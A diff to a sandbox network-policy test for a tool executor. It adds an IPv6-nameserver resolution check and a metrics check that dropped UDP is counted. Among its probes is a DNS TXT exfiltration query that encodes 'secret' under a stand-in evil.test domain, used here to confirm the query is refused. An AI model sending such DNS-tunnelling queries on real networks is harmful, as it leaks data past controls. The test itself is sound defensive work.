@@ -6,9 +6,9 @@
 //! and raw TCP, and nothing else: unlisted names are NXDOMAIN with a fact of
 //! kind `dns` and never reach the upstream DNS, a TXT exfiltration query
 //! likewise, a hard-coded IP is `ip_literal`, a TLS server name that is not
-//! the name is `host_mismatch`, UDP to another port fails; a
-//! `network = "proxy"` tool is unchanged (no name resolves, no direct
-//! connect). Strict where the host has every layer, else best_effort.
+//! the name is `host_mismatch`, UDP to another port fails and is counted;
+//! a nameserver named by an IPv6 address answers too; a `network = "proxy"`
+//! tool is unchanged (no name resolves, no direct connect). Strict where the host has every layer, else best_effort.
 //! Needs root (namespaces, nftables); skipped loudly otherwise.
 //! Loopback only: the origins are on 127.0.0.2, the proxy's upstream DNS is
 //! a fake on loopback, every address the children use lives in their own
@@ -120,14 +120,15 @@ def nameserver():
         pass
     return "127.0.0.1"
 
-def dns_rcode(name, qtype):
+def dns_rcode(name, qtype, server=None):
     q = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
     for part in name.split("."):
         q += bytes([len(part)]) + part.encode()
     q += b"\0" + struct.pack("!HH", qtype, 1)
-    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    server = server or nameserver()
+    s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
     s.settimeout(5)
-    s.sendto(q, (nameserver(), 53))
+    s.sendto(q, (server, 53))
     r = s.recv(512)
     return {"rcode": r[3] & 0xF, "answers": struct.unpack("!H", r[6:8])[0]}
 
@@ -198,6 +199,7 @@ def run(input, ctx):
         "resolve_web": attempt(lambda: socket.gethostbyname("web.test")),
         "resolve_evil": attempt(lambda: socket.gethostbyname("evil.test")),
         "txt_exfil": attempt(lambda: dns_rcode("c2VjcmV0.exfil.evil.test", 16)),
+        "resolve_at_v6_server": attempt(lambda: dns_rcode("web.test", 1, "2001:db8::53")),
         "http": attempt(lambda: urllib_get(f"http://web.test:{WEB}/")),
         "http_unlisted_port": attempt(lambda: urllib_get(f"http://web.test:{DB}/")),
         "raw": attempt(echo),
@@ -324,6 +326,12 @@ timeout_ms = 30000
     );
     assert_eq!(out["resolve_evil"]["error"], json!("gaierror"), "{out:#}");
     assert_eq!(out["txt_exfil"]["rcode"], json!(3), "{out:#}");
+    // A nameserver named by an IPv6 address is answered the same.
+    assert_eq!(
+        out["resolve_at_v6_server"],
+        json!({"rcode": 0, "answers": 1}),
+        "{out:#}"
+    );
     // Plain HTTP, raw TCP and TLS to listed names work; the listed name on
     // a port it is not listed for does not.
     assert_eq!(out["http"]["status"], json!(200), "{out:#}");
@@ -346,8 +354,29 @@ timeout_ms = 30000
         out["ip6_literal"].as_str().is_some_and(|l| l.contains("403")),
         "{out:#}"
     );
-    // UDP anywhere but DNS: dropped in the namespace (EPERM).
+    // UDP anywhere but DNS: dropped in the namespace (EPERM), and counted
+    // once the child is gone.
     assert_eq!(out["udp"]["errno"], json!(1), "{out:#}");
+    let dropped = async {
+        loop {
+            let m = exec.metrics().encode();
+            let line = m
+                .lines()
+                .find(|l| l.starts_with("executor_transparent_udp_dropped_total{tool=\"tp\"}"))
+                .map(str::to_string);
+            if line.as_deref().is_some_and(|l| !l.ends_with(" 0")) {
+                return line;
+            }
+            tokio::time::sleep(Duration::from_millis(50)).await;
+        }
+    };
+    let dropped = tokio::time::timeout(Duration::from_secs(10), dropped).await;
+    assert_eq!(
+        dropped.ok().flatten().as_deref(),
+        Some("executor_transparent_udp_dropped_total{tool=\"tp\"} 1"),
+        "{}",
+        exec.metrics().encode()
+    );
     if which("curl").is_some() {
         assert_eq!(out["curl"]["out"], json!("hello from origin"), "{out:#}");
     }
